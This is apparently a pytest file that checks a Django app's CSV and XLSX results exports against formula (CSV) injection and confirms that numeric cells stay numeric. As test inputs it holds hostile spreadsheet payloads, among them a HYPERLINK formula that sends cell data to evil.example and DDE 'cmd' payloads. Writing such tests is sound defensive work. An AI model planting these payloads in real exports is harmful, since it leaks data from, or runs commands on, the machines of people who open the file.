"""Issue 10, item 10: a text that starts like a formula is never a live formula in an export
(OWASP's CSV injection rule, in CSV and XLSX); numbers stay numbers."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from scoring.exports import safe_cell
from tests.support.clients import client_for
from tests.worlds import JudgedCall

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
ATTACKS = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"]


@pytest.fixture
def poisoned():
    scored = JudgedCall.scored()
    for entry, title in zip(scored.entries, ATTACKS, strict=False):
        entry.title = title
        entry.save()
    scored.entries[4].organization.name = "\t=1+1"
    scored.entries[4].organization.save()
    scored.jurors[1].username = "\uff1dcmd"  # a full-width equals sign
    scored.jurors[1].save()
    return scored


def _export(scored, kind: str) -> bytes:
    answer = client_for(scored.staff).get(f"/api/v1/calls/{scored.call.slug}/results.{kind}")
    assert answer.status_code == 200
    return answer.content


def test_csv_cells_that_start_like_formulas_are_quoted_and_numbers_stay_numbers(poisoned):
    rows = list(csv.reader(io.StringIO(_export(poisoned, "csv").decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    titles = [row[header.index("title")] for row in body]
    assert sorted(titles) == sorted(
        ["'" + attack for attack in ATTACKS] + [poisoned.entries[4].title]
    )
    assert "'\t=1+1" in [row[header.index("organization")] for row in body]
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), cell
        float(row[header.index("score")])  # a plain number, never quoted
        assert int(row[header.index("rank")]) >= 1


def test_xlsx_holds_no_formula_and_numbers_stay_numbers(poisoned):
    content = _export(poisoned, "xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in package.read(name) and b"<f " not in package.read(name)
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    ranking = book["Ranking"]
    header = [cell.value for cell in ranking[1]]
    titles = {row[header.index("title")] for row in ranking.iter_rows(min_row=2, values_only=True)}
    assert "'" + HYPERLINK in titles
    scores = [row[header.index("score")] for row in ranking.iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(score, int | float) for score in scores)
    jurors = [row[1] for row in book["Jurors"].iter_rows(min_row=2, values_only=True)]
    assert "'\uff1dcmd" in jurors
    severities = [row[4] for row in book["Jurors"].iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(value, int | float) for value in severities)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20A1", "'\uff20A1"),
        ("Superblocks", "Superblocks"),
        (-1.5, -1.5),
        (3, 3),
        (None, None),
    ],
)
def test_the_rule_prefixes_only_texts_that_start_like_a_formula(value, shown):
    assert safe_cell(value) == shown
